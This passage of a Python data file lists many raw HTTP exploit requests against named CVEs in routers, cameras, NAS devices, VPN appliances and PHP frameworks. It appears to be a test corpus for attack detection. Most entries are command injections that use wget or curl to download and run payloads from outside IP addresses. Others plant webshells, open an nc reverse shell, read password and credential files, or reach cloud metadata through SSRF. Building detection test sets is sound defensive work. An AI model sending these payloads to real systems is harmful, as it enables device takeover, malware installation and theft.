     "path", "", "/shell?cd /tmp || cd /run || cd /; wget http://198.98.56.129/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh"),
    ("rce", "MVPower JAWS /shell encoded uname check",
     "raw", "",
     _raw("GET /shell?%75%6E%61%6D%65%20%2D%61 HTTP/1.1", "Host: 177.10.6.3:60001", "User-Agent: Mozilla/5.0")),
    ("rce", "AVTECH DVR CloudSetup.cgi exefile command with default admin",
     "raw", "",
     _raw("GET /cgi-bin/supervisor/CloudSetup.cgi?exefile=wget%20http://5.181.80.104/av.arm%20-O%20/tmp/av;"
          "sh%20/tmp/av HTTP/1.1", "Host: 59.124.6.8", "Authorization: Basic YWRtaW46YWRtaW4=", *_BOT)),
    ("rce", "CVE-2024-7029 AVTECH camera Factory.cgi brightness injection",
     "raw", "",
     _raw("POST /cgi-bin/supervisor/Factory.cgi HTTP/1.1", "Host: 59.124.6.9", _FORM, "User-Agent: Mozilla/5.0",
          body="action=white_led&brightness=$(cd%20/tmp;wget%20http://5.181.80.104/av.sh;sh%20av.sh)")),
    ("rce", "TVT NVMS-9000 editBlackAndWhiteList ip element injection",
     "raw", "",
     _raw("POST /editBlackAndWhiteList HTTP/1.1", "Accept-Encoding: identity", "Host: 127.0.0.1:80",
          "User-Agent: ApiTool", "Connection: close",
          "Authorization: Basic YWRtaW46ezEyMjEzQkQxLTY5QzctNDg2Mi04NDNELTI2MDUwMEQxREE0MH0=",
          body='<?xml version="1.0" encoding="utf-8"?><request version="1.0" systemType="NVMS-9000" '
               'clientType="WEB"><types><filterTypeMode><enum>refuse</enum><enum>allow</enum></filterTypeMode>'
               '<addressType><enum>ip</enum><enum>iprange</enum><enum>mac</enum></addressType></types><content>'
               '<switch>true</switch><filterType type="filterTypeMode">refuse</filterType><filterList type="list">'
               '<itemType><addressType type="addressType"/></itemType><item><switch>true</switch><addressType>ip'
               '</addressType><ip>$(nc${IFS}89.190.156.145${IFS}31337${IFS}-e${IFS}$SHELL&)</ip></item>'
               '</filterList></content></request>')),
    ("ptrav", "CVE-2019-20085 TVT NVMS-1000/9000 directory traversal",
     "raw", "",
     _raw("GET /../../../../../../../../../../../../windows/win.ini HTTP/1.1", "Host: 122.116.5.3",
          "User-Agent: Mozilla/5.0", "Accept: */*")),
    ("rce", "Vacron NVR board.cgi cmd injection",
     "raw", "",
     _raw("GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://198.98.56.129/vacron;sh+vacron HTTP/1.1",
          "Host: 114.35.9.20", *_BOT)),
    ("rce", "Cross Web Server CCTV DVR /language/ ${IFS} command injection",
     "raw", "",
     _raw("GET /language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://193.42.33.14/b.sh;"
          "sh${IFS}/tmp/b.sh&>r&&tar${IFS}/string.js HTTP/1.0", "User-Agent: Hello, world")),

    # --- Other routers: DrayTek, Linksys, TOTOLINK, Tenda, ZTE, Ruckus, Cisco, Yealink, Seowon ---
    ("rce", "CVE-2020-8515 DrayTek Vigor mainfunction.cgi keyPath injection",
     "raw", "",
     _raw("POST /cgi-bin/mainfunction.cgi HTTP/1.1", "Host: 85.9.66.202", _FORM, "User-Agent: Mozilla/5.0",
          body="action=login&keyPath=%27%0A%2fbin%2fsh${IFS}-c${IFS}%27cd${IFS}/tmp;${IFS}rm${IFS}-rf${IFS}arm7;"
               "${IFS}busybox${IFS}wget${IFS}http://212.70.149.22/arm7;${IFS}chmod${IFS}777${IFS}arm7;${IFS}"
               "./arm7${IFS}draytek%27%0A%27&loginUser=a&loginPwd=a")),
    ("rce", "CVE-2020-8515 DrayTek Vigor mainfunction.cgi rtick backtick injection",
     "raw", "",
     _raw("POST /cgi-bin/mainfunction.cgi HTTP/1.1", "Host: 85.9.66.203:4433", _FORM, _UA_PY,
          body="action=login&keyPath=1&loginUser=a&loginPwd=a&formcaptcha=1&rtick=%60wget${IFS}-qO-${IFS}"
               "http://212.70.149.22/v.sh|sh%60")),
    ("rce", "Linksys E-series tmUnblock.cgi ttcp_ip injection (TheMoon worm)",
     "raw", "",
     _raw("POST /tmUnblock.cgi HTTP/1.1", "Host: 75.80.1.22:8080", "User-Agent: Mozilla/5.0",
          "Authorization: Basic YWRtaW46YWRtaW4=", _FORM,
          body="%73%75%62%6D%69%74%5F%62%75%74%74%6F%6E=&%63%68%61%6E%67%65%5F%61%63%74%69%6F%6E=&%61%63%74%69%6F"
               "%6E=&%63%6F%6D%6D%69%74=0&%74%74%63%70%5F%6E%75%6D=2&%74%74%63%70%5F%73%69%7A%65=2&%74%74%63%70"
               "%5F%69%70=-h+%60cd+%2Ftmp%3B+rm+-rf+*%3B+wget+http%3A%2F%2F195.133.40.71%2Flnk%3B+chmod+777+lnk%3B"
               "+.%2Flnk%60&%53%74%61%72%74%45%50%49=1")),
    ("rce", "Linksys E-series hndUnblock.cgi ttcp_ip injection",
     "raw", "",
     _raw("POST /hndUnblock.cgi HTTP/1.1", "Host: 75.80.1.23:8080", _FORM, *_BOT,
          body="submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+%60cd+%2Ftmp%3B"
               "wget+http%3A%2F%2F195.133.40.71%2Fl.mipsel%3Bsh+l.mipsel%60&StartEPI=1")),
    ("rce", "Linksys E1500/E2500 apply.cgi ping_size injection",
     "raw", "",
     _raw("POST /apply.cgi HTTP/1.1", "Host: 75.80.1.24", "Authorization: Basic YWRtaW46YWRtaW4=", _FORM,
          "User-Agent: Mozilla/5.0",
          body="submit_button=Diagnostics&change_action=gozila_cgi&submit_type=start_ping&action=&commit=0"
               "&ping_ip=127.0.0.1&ping_size=%26wget+http%3A%2F%2F195.133.40.71%2Fe.sh+-O-%7Csh%26&ping_times=5"
               "&traceroute_ip=")),
    ("rce", "CVE-2022-26210 TOTOLINK cstecgi.cgi setUpgradeFW FileName injection",
     "raw", "",
     _raw("POST /cgi-bin/cstecgi.cgi HTTP/1.1", "Host: 171.244.3.17", "Content-Type: application/x-www-form-urlencoded; charset=UTF-8",
          "User-Agent: Mozilla/5.0",
          body='{"topicurl":"setting/setUpgradeFW","FileName":"$(wget http://84.54.51.82/tt.mips -O /tmp/tt;'
               'sh /tmp/tt)","Flags":"1","ContentLength":"1"}')),
    ("rce", "TOTOLINK cstecgi.cgi setTracerouteCfg command injection",
     "raw", "",
     _raw("POST /cgi-bin/cstecgi.cgi HTTP/1.1", "Host: 171.244.3.18", _JSON, _UA_GO,
          body='{"topicurl":"setTracerouteCfg","command":"127.0.0.1;wget${IFS}http://84.54.51.82/tt.sh;'
               'sh${IFS}tt.sh","num":"1"}')),
    ("rce", "CVE-2022-26186 TOTOLINK cstecgi.cgi exportOvpn comand injection",
     "raw", "",
     _raw("GET /cgi-bin/cstecgi.cgi?exportOvpn=&type=user&comand=;wget${IFS}http://84.54.51.82/tt.arm;"
          "chmod${IFS}777${IFS}tt.arm;./tt.arm${IFS}totolink;&filetype=gz HTTP/1.1", "Host: 171.244.3.19", *_BOT)),
    ("rce", "CVE-2020-10987 Tenda AC15 setUsbUnload deviceName injection",
     "raw", "",
     _raw("GET /goform/setUsbUnload/.js?deviceName=A;wget%20http://5.181.80.104/tenda.arm%20-O%20/tmp/t;"
          "sh%20/tmp/t HTTP/1.1", "Host: 113.160.8.4", "User-Agent: Mozilla/5.0")),
    ("rce", "Tenda router WriteFacMac mac parameter injection",
     "raw", "",
     _raw("POST /goform/WriteFacMac HTTP/1.1", "Host: 113.160.8.5", _FORM, *_BOT,
          body="mac=00%3A01%3A02%3A11%3A22%3A33%3Bcd+%2Ftmp%3Bwget+http%3A%2F%2F5.181.80.104%2Ftnd%3Bsh+tnd")),
    ("rce", "Tenda router unauthenticated /goform/telnet enabling telnetd",
     "raw", "",
     _raw("GET /goform/telnet HTTP/1.1", "Host: 113.160.8.6", "User-Agent: Hello, world")),
    ("rce", "CVE-2014-2321 ZTE F460/F660 web_shell_cmd.gch command execution",
     "raw", "",
     _raw("POST /web_shell_cmd.gch HTTP/1.1", "Host: 186.4.21.77", _FORM, "User-Agent: Mozilla/5.0",
          body="IF_ACTION=apply&IF_ERRORSTR=SUCC&IF_ERRORPARAM=SUCC&IF_ERRORTYPE=-1&Cmd=wget+http%3A%2F%2F"
               "89.190.156.145%2Fzte+-O+%2Ftmp%2Fzte%3Bsh+%2Ftmp%2Fzte&CmdAck=")),
    ("rce", "CVE-2023-25717 Ruckus Wireless Admin doLogin password injection",
     "raw", "",
     _raw("GET /forms/doLogin?login_username=admin&password=password$(curl%20http://45.66.230.15/r.sh|sh)"
          "&x=0&y=0 HTTP/1.1", "Host: 38.102.9.1", "User-Agent: Mozilla/5.0", "Accept: */*")),
    ("rce", "CVE-2019-1652 Cisco RV320/RV325 certificate_handle2 common_name injection",
     "raw", "",
     _raw("POST /certificate_handle2.htm?type=4 HTTP/1.1", "Host: 64.20.15.80", _FORM,
          "Cookie: mlap=RGVmYXVsdDo0OmNpc2NvOjY0MGMxZTMw", "User-Agent: Mozilla/5.0",
          body="page=self_generator.htm&totalRules=1&OpenVPNRules=30&submitStatus=1&log_ch=1&type=4&Country=A"
               "&state=A&locality=A&organization=A&organization_unit=A&email=any%40example.com&KeySize=512"
               "&KeyLength=1024&valid_days=30&SelectSubject_c=1&SelectSubject_s=1&common_name=a%27%24%28wget%20"
               "http%3A%2F%2F193.42.33.14%2Frv.sh%20-O-%7Csh%29%27b")),
    ("scanner", "CVE-2019-1653 Cisco RV320 unauthenticated config.exp export",
     "raw", "",
     _raw("GET /cgi-bin/config.exp HTTP/1.1", "Host: 64.20.15.81", _UA_PY, "Accept: */*")),
    ("rce", "CVE-2021-27561 Yealink Device Management getPingData url injection",
     "path", "", "/premise/front/getPingData?url=http://0.0.0.0:9600/sm/api/v1/firewall/zone/services?zone=;/usr/bin/wget${IFS}-qO-${IFS}http://45.95.147.236/y.sh|sh;"),
    ("rce", "CVE-2020-17456 Seowon SLC-130 system_log.cgi pingIpAddr injection",
     "raw", "",
     _raw("POST /cgi-bin/system_log.cgi? HTTP/1.1", "Host: 39.117.8.2", _FORM, "Cookie: login=1",
          "User-Agent: Mozilla/5.0",
          body="Command=Diagnostic&traceMode=ping&reportIpOnly=&pingIpAddr=%3Bwget+http%3A%2F%2F89.190.156.145"
               "%2Fsw+-O+%2Ftmp%2Fsw%3Bsh+%2Ftmp%2Fsw&pingPktSize=56&pingTimeout=30&pingCount=4&maxTTLCnt=30"
               "&queriesCnt=3&reportIpOnlyCheckbox=on&logarea=com.cgi&btnApply=Apply&T=1646950471018")),

    # --- NAS ---
    ("ptrav", "CVE-2019-7194/7195 QNAP Photo Station video.php filename traversal (app_token)",
     "raw", "",
     _raw("POST /photo/p/api/video.php HTTP/1.1", "Host: 92.200.4.18:8080", _FORM, _UA_PY,
          body="album=cJinsP&a=caption&ac=VbHRkq&f=UMGObv&filename=..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2F"
               "config%2F.app_token")),
    ("rce", "CVE-2018-18472 WD My Book Live language_configuration injection",
     "raw", "",
     _raw("PUT /api/1.0/rest/language_configuration HTTP/1.1", "Host: 76.91.2.5", _FORM, _UA_PY,
          body="language=en_US%60wget%20http%3A%2F%2F45.142.182.77%2Fwd.ppc%20-O%20%2Ftmp%2Fwd%3Bsh%20%2Ftmp%2Fwd%60")),

    # --- Edge appliances and enterprise software (mass exploitation) ---
    ("ptrav", "CVE-2018-13379 Fortinet FortiOS SSL VPN fgt_lang session file read",
     "raw", "",
     _raw("GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
          "Host: 109.70.8.3:10443", "User-Agent: Mozilla/5.0", "Accept: */*")),
    ("ptrav", "CVE-2019-11510 Pulse Secure guacamole traversal reading data.mdb",
     "raw", "",
     _raw("GET /dana-na/../dana/html5acc/guacamole/../../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?"
          "/dana/html5acc/guacamole/ HTTP/1.1", "Host: 63.81.9.10", "User-Agent: curl/7.68.0")),
    ("ptrav", "CVE-2019-19781 Citrix ADC /vpns/ traversal probe (smb.conf)",
     "raw", "",
     _raw("GET /vpn/../vpns/cfg/smb.conf HTTP/1.1", "Host: 192.0.43.70", _UA_PY, "Accept: */*")),
    ("rce", "CVE-2019-19781 Citrix ADC newbm.pl template injection with NSC_USER traversal",
     "raw", "",
     _raw("POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1", "Host: 192.0.43.71",
          "NSC_USER: ../../../netscaler/portal/templates/eKEQkHsD", "NSC_NONCE: nsroot", _FORM, _UA_PY,
          body="url=http://example.com&title=[%25+template.new({'BLOCK'%3d'print+readpipe(\"curl+-s+"
               "http://45.142.182.77/ctx.sh|sh\")'})%25]&desc=desc&UI_inuse=RfWeb")),
    ("ptrav", "CVE-2020-5902 F5 BIG-IP TMUI ..; traversal fileRead.jsp",
     "raw", "",
     _raw("GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd HTTP/1.1",
          "Host: 155.44.2.10", "User-Agent: Mozilla/5.0")),
    ("rce", "CVE-2020-5902 F5 BIG-IP TMUI tmshCmd.jsp",
     "path", "", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list auth user admin"),
    ("rce", "CVE-2022-1388 F5 BIG-IP iControl REST hop-by-hop auth bypass to util/bash",
     "raw", "",
     _raw("POST /mgmt/tm/util/bash HTTP/1.1", "Host: 155.44.2.11", "Authorization: Basic YWRtaW46",
          "X-F5-Auth-Token: a", "Connection: keep-alive, X-F5-Auth-Token", _JSON, _UA_GO,
          body='{"command":"run","utilCmdArgs":"-c \'curl -s http://45.142.182.77/f5.sh|bash\'"}')),
    ("rce", "CVE-2024-3400 PAN-OS GlobalProtect SESSID traversal into telemetry command",
     "raw", "",
     _raw("POST /ssl-vpn/hipreport.esp HTTP/1.1", "Host: 199.91.4.22",
          "Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/hellothere226`curl${IFS}"
          "http://172.233.228.93/policy|bash`;", _FORM, "Content-Length: 0", "User-Agent: Mozilla/5.0")),
    ("rce", "CVE-2023-46805/CVE-2024-21887 Ivanti Connect Secure keys-status injection",
     "raw", "",
     _raw("GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20-s%20http%3a%2f%2f"
          "45.142.182.77%2fiv.sh%7csh%3b HTTP/1.1", "Host: 147.78.9.4", _UA_PY)),
    ("rce", "CVE-2023-20198 Cisco IOS XE web UI wsma config apply creating privilege-15 user",
     "raw", "",
     _raw("POST /%2577ebui_wsma_HTTP HTTP/1.1", "Host: 199.12.9.9", _FORM, _UA_PY,
          body='<?xml version="1.0"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/" '
               'xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/"><SOAP:Header><wsse:Security '
               'xmlns:wsse="http://schemas.xmlsoap.org/ws/2002/04/secext"><wsse:UsernameToken '
               'SOAP:mustUnderstand="false"><wsse:Username>admin</wsse:Username><wsse:Password>*****'
               '</wsse:Password></wsse:UsernameToken></wsse:Security></SOAP:Header><SOAP:Body><request '
               'correlator="exec1" xmlns="urn:cisco:wsma-config"><configApply details="all" '
               'action-on-fail="rollback"><config-data><cli-config-data-block>username cisco_tac_admin '
               'privilege 15 secret 0 Tg7Kq2wP9x</cli-config-data-block></config-data></configApply></request>'
               '</SOAP:Body></SOAP:Envelope>')),
    ("ssrf", "CVE-2021-34473 Exchange ProxyShell autodiscover SSRF to PowerShell backend",
     "raw", "",
     _raw("GET /autodiscover/autodiscover.json?@evil.com/powershell/?&Email=autodiscover/autodiscover.json"
          "%3F@evil.com HTTP/1.1", "Host: mail.victim-corp.com", _UA_PY)),
    ("ssrf", "CVE-2021-26855 Exchange ProxyLogon X-BEResource cookie SSRF",
     "raw", "",
     _raw("GET /owa/auth/x.js HTTP/1.1", "Host: mail.victim-corp.com",
          "Cookie: X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; "
          "X-BEResource=localhost/owa/auth/logon.aspx?~3;", _UA_PY)),
    ("ptrav", "CVE-2021-41773 Apache 2.4.49 .%2e traversal /etc/passwd",
     "raw", "",
     _raw("GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "Host: 51.15.9.81", "User-Agent: curl/7.79.1",
          "Accept: */*")),
    ("rce", "CVE-2021-41773 Apache 2.4.49 cgi-bin traversal to /bin/sh miner dropper",
     "raw", "",
     _raw("POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "Host: 51.15.9.82",
          "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Content-Type: text/plain",
          body="echo;cd /tmp;(curl -s http://45.95.147.236/k.sh||wget -q -O- http://45.95.147.236/k.sh)|sh")),
    ("rce", "CVE-2021-42013 Apache 2.4.50 double-encoded %%32%65 traversal to /bin/sh",
     "raw", "",
     _raw("POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1",
          "Host: 51.15.9.83", _FORM, "User-Agent: Mozilla/5.0",
          body="echo Content-Type: text/plain; echo; id; uname -a")),
    ("rce", "CVE-2014-6271 Shellshock in User-Agent against CGI (botnet dropper)",
     "raw", "",
     _raw("GET /cgi-bin/status HTTP/1.1", "Host: 77.87.1.2",
          'User-Agent: () { :; }; /bin/bash -c "cd /tmp;wget http://198.98.56.129/s;chmod 777 s;./s shellshock"',
          "Accept: */*")),
    ("rce", "CVE-2014-6271 Shellshock in Referer and Cookie headers",
     "raw", "",
     _raw("GET /cgi-bin/test-cgi HTTP/1.1", "Host: 77.87.1.3", "User-Agent: Mozilla/5.0",
          "Referer: () { :;}; echo; /bin/cat /etc/passwd",
          "Cookie: () { :;}; /bin/bash -c 'curl http://198.98.56.129/ss|sh'")),
    ("rce", "CVE-2014-6271 Shellshock via User-Agent header",
     "header:User-Agent", "", "() { ignored;};/bin/bash -c 'wget -qO- http://198.98.56.129/bash.sh|bash'"),
    ("rce", "SonicWall SMA/SSL-VPN legacy jarrewrite.sh Shellshock (CVE-2014-6271)",
     "raw", "",
     _raw("GET /cgi-bin/jarrewrite.sh HTTP/1.1", "Host: 199.5.20.4",
          "User-Agent: () { :; }; echo ; /bin/bash -c 'cat /etc/passwd'", "Accept: */*")),
    ("protocol", "CVE-2023-4966 Citrix Bleed oversized Host header memory over-read",
     "raw", "",
     _raw("GET /oauth/idp/.well-known/openid-configuration HTTP/1.1", "Host: " + "a" * 24812,
          "User-Agent: python-requests/2.31.0", "Accept: */*", "Connection: close")),
    ("ssrf", "CVE-2019-8451 Jira gadgets makeRequest SSRF to cloud metadata",
     "raw", "",
     _raw("GET /plugins/servlet/gadgets/makeRequest?url=https://jira.victim-corp.com:443@169.254.169.254/latest/"
          "meta-data/iam/security-credentials/ HTTP/1.1", "Host: jira.victim-corp.com",
          "X-Atlassian-Token: no-check", _UA_PY)),
    ("ptrav", "CVE-2021-26086 Jira /s/ path traversal to WEB-INF/web.xml",
     "path", "", "/s/cfx/_/;/WEB-INF/web.xml"),
    ("xxe", "CVE-2019-9670 Zimbra Autodiscover XXE with external DTD",
     "raw", "",
     _raw("POST /Autodiscover/Autodiscover.xml HTTP/1.1", "Host: mail.victim-corp.com", "Content-Type: text/xml",
          _UA_PY,
          body='<!DOCTYPE xxe [<!ELEMENT name ANY ><!ENTITY % dtd SYSTEM "http://89.190.156.145/zm.dtd">%dtd;'
               '%all;]><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/'
               'responseschema/2006a"><Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>'
               '&fileContents;</AcceptableResponseSchema></Request></Autodiscover>')),
    ("php", "CVE-2022-35914 GLPI htmLawedTest.php hhook=exec",
     "raw", "",
     _raw("POST /vendor/htmlawed/htmlawed/htmLawedTest.php HTTP/1.1", "Host: glpi.victim-corp.com", _FORM,
          "Cookie: sid=hlhgk4m4bg1bv5vl6c2b0e8ju5", _UA_PY,
          body="token=e56d2c44e4e0a8e5bb2d0a27f4e1c3a8&text=wget+-qO-+http%3A%2F%2F45.95.147.236%2Fg.sh%7Csh"
               "&hhook=exec&sid=hlhgk4m4bg1bv5vl6c2b0e8ju5")),
    ("rce", "CVE-2022-46169 Cacti remote_agent.php poller_id injection with spoofed XFF",
     "raw", "",
     _raw("GET /remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1%3Bwget%20-qO-%20"
          "http%3A%2F%2F45.95.147.236%2Fc.sh%7Csh HTTP/1.1", "Host: cacti.victim-corp.com",
          "X-Forwarded-For: 127.0.0.1", _UA_PY)),

    # --- ThinkPHP ---
    ("php", "CVE-2018-20062 ThinkPHP 5 invokefunction md5 probe",
     "raw", "",
     _raw(r"GET /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5"
          r"&vars[1][]=HelloThinkPHP21 HTTP/1.1", "Host: 47.98.1.5", _UA_CHROME78, "Accept: */*")),
    ("php", "CVE-2018-20062 ThinkPHP 5 invokefunction system wget dropper",
     "raw", "",
     _raw(r"GET /index.php?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system"
          r"&vars[1][]=%27wget%20http://103.149.87.69/bins/x86%20-O%20thonkphp%20;%20chmod%20777%20thonkphp%20;"
          r"%20./thonkphp%20ThinkPHP%20;%20rm%20-rf%20thinkphp%27 HTTP/1.1", "Host: 47.98.1.6:80",
          "Connection: keep-alive", "Accept-Encoding: gzip, deflate", "Accept: */*",
          "User-Agent: Uirusu/2.0")),
    ("php", "CVE-2019-9082 ThinkPHP Container invokefunction file_put_contents webshell",
     "raw", "",
     _raw(r"GET /index.php?s=index/\think\Container/invokefunction&function=call_user_func_array"
          r"&vars[0]=file_put_contents&vars[1][]=sx.php&vars[1][]=%3C?php%20@eval($_POST[%27sx%27]);?%3E HTTP/1.1",
          "Host: 47.98.1.7", _UA_CHROME78)),
    ("php", "ThinkPHP 5 Request/input filter=system",
     "raw", "",
     _raw(r"GET /index.php?s=index/\think\Request/input&filter[]=system&data=pwd HTTP/1.1", "Host: 47.98.1.8",
          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:68.0) Gecko/20100101 Firefox/68.0")),
    ("php", "ThinkPHP 5 template driver file write webshell",
     "raw", "",
     _raw(r"GET /index.php?s=index/\think\template\driver\file/write&cacheFile=shell.php"
          r"&content=%3C?php%20phpinfo();?%3E HTTP/1.1", "Host: 47.98.1.9", _UA_CHROME78)),
    ("php", "CVE-2019-9082 ThinkPHP 5.0.23 captcha _method=__construct filter system",
     "raw", "",
     _raw("POST /index.php?s=captcha HTTP/1.1", "Host: 47.98.1.10", _FORM, _UA_CHROME78,
          body="_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=wget%20-qO-%20"
               "http://103.149.87.69/tp.sh%7Csh")),
    ("php", "CVE-2022-47945 ThinkPHP 6 lang traversal to pearcmd config-create",
     "raw", "",
     _raw("GET /index.php?+config-create+/&lang=../../../../../../../../usr/local/lib/php/pearcmd&/<?="
          "@eval($_POST['x']);?>+/tmp/tp6.php HTTP/1.1", "Host: 47.98.1.11", _UA_GO)),
    ("php", "ThinkPHP config/get database credential disclosure",
     "raw", "",
     _raw(r"GET /index.php?s=index/think\config/get&name=database.password HTTP/1.1", "Host: 47.98.1.12",
          _UA_CHROME78)),
    ("php", "ThinkPHP invokefunction phpinfo probe (client-encoded path)",
     "path", "", "/public/index.php?s=/index/\\think\\app/invokefunction&function=phpinfo&vars[0]=1"),

    # --- PHPUnit eval-stdin ---
    ("php", "CVE-2017-9841 PHPUnit eval-stdin.php md5 probe",
     "raw", "",
     _raw("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "Host: 35.180.5.9",
          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/81.0.4044.129 Safari/537.36", "Content-Type: text/plain",
          body='<?php echo(md5("Hello PHPUnit"));')),
    ("php", "CVE-2017-9841 PHPUnit eval-stdin via GET with body under /laravel/",
     "raw", "",
     _raw("GET /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "Host: 35.180.5.10",
          "User-Agent: Go-http-client/1.1", "Content-Type: application/x-www-form-urlencoded",
          body="<?php echo 'phpunit_' . php_uname(); ?>")),
    ("php", "CVE-2017-9841 PHPUnit eval-stdin Kinsing dropper",
     "raw", "",
     _raw("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "Host: 35.180.5.11",
          _UA_CHROME78, "Content-Type: text/plain",
          body="<?php system('(curl -s http://194.38.20.199/lh.sh||wget -q -O- http://194.38.20.199/lh.sh)|bash'); ?>")),
    ("php", "CVE-2017-9841 PHPUnit old path Util/PHP eval-stdin base64 eval",
     "raw", "",
     _raw("POST /wp-content/plugins/dzs-videogallery/class_parts/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
          " HTTP/1.1", "Host: 35.180.5.12", "User-Agent: Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M)",
          body="<?php eval(base64_decode('ZWNobyAnVnVsbmVyYWJsZSc7IGZpbGVfcHV0X2NvbnRlbnRzKCd4LnBocCcsICc8P3BocCBAc3lzdGVtKCRfR0VUWyJjIl0pOz8+Jyk7'));")),
    ("scanner", "PHPUnit eval-stdin existence probe",
     "path", "", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),

    # --- Laravel ---
    ("php", "CVE-2021-3129 Laravel Ignition execute-solution php://filter log clearing",
     "raw", "",
     _raw("POST /_ignition/execute-solution HTTP/1.1", "Host: 34.201.9.4", _JSON, "Accept: application/json",
          _UA_PY,
          body='{"solution": "Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution", "parameters": '
               '{"variableName": "username", "viewFile": "php://filter/write=convert.iconv.utf-8.utf-16be|'
               'convert.quoted-printable-encode|convert.iconv.utf-16be.utf-8|convert.base64-decode/resource='
               '../storage/logs/laravel.log"}}')),
    ("php", "CVE-2021-3129 Laravel Ignition phar:// deserialization trigger",
     "raw", "",
     _raw("POST /_ignition/execute-solution HTTP/1.1", "Host: 34.201.9.5", _JSON, _UA_PY,
          body='{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":'
               '{"variableName":"username","viewFile":"phar://../storage/logs/laravel.log/test.txt"}}')),
    ("scanner", "CVE-2021-3129 Laravel Ignition viewFile existence probe",
     "raw", "",
     _raw("POST /_ignition/execute-solution HTTP/1.1", "Host: 34.201.9.7", _JSON, _UA_GO,
          body='{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":'
               '{"variableName":"cm0s","viewFile":"xxxxxxx"}}')),
    ("scanner", "AndroxGh0st Laravel debug/.env harvesting POST",
     "raw", "",
     _raw("POST / HTTP/1.1", "Host: 34.201.9.6", _FORM,
          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/98.0.4758.102 Safari/537.36", body="0x%5B%5D=androxgh0st")),
    ("scanner", "Laravel Ignition health-check probe",
     "path", "", "/_ignition/health-check"),

    # --- vBulletin ---
    ("php", "CVE-2019-16759 vBulletin widget_php widgetConfig[code]",
     "raw", "",
     _raw("POST /index.php?routestring=ajax/render/widget_php HTTP/1.1", "Host: forum.victim-site.net", _FORM,
          _UA_PY, body="widgetConfig%5Bcode%5D=echo+shell_exec%28%27id%27%29%3B+exit%3B")),
    ("php", "CVE-2020-17496 vBulletin tabbedcontainer subWidgets bypass",
     "raw", "",
     _raw("POST /ajax/render/widget_tabbedcontainer_tab_panel HTTP/1.1", "Host: forum.victim-site.net", _FORM,
          "User-Agent: Mozilla/5.0",
          body="subWidgets[0][template]=widget_php&subWidgets[0][config][code]=echo%20shell_exec(%22wget%20-qO-%20"
               "http://45.95.147.236/vb.sh|sh%22);%20exit;")),
    ("php", "CVE-2019-16759 vBulletin widget_php via GET query string",
     "path", "", "/index.php?routestring=ajax/render/widget_php&widgetConfig[code]=phpinfo();exit;"),

    # --- Drupal ---
    ("php", "CVE-2018-7600 Drupalgeddon2 Drupal 8 user/register #post_render exec",
     "raw", "",
     _raw("POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax "
          "HTTP/1.1", "Host: www.victim-site.org", _FORM, _UA_PY,
          body="form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup"
               "&mail[#markup]=wget%20http://193.42.33.14/d8.sh%20-O-%7Csh")),
    ("php", "CVE-2018-7600 Drupalgeddon2 Drupal 7 user/password name[#post_render] passthru",
     "raw", "",
     _raw("POST /?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id "
          "HTTP/1.1", "Host: www.victim-site.org", _FORM, _UA_PY,
          body="form_id=user_pass&_triggering_element_name=name&_triggering_element_value=&opz=E-mail+new+Password")),
    ("sqli", "CVE-2014-3704 Drupalgeddon name[] array key SQL injection",
     "raw", "",
     _raw("POST /?q=node&destination=node HTTP/1.1", "Host: www.victim-site.org", _FORM, _UA_PY,
          body="pass=lol&form_build_id=&form_id=user_login_block&op=Log+in&name[0%20or%20updatexml(0x23,"
               "concat(1,md5(8)),1)%23]=bob&name[0]=a")),
    ("php", "CVE-2019-6340 Drupal 8 REST hal_json Guzzle FnStream unserialize",
     "raw", "",
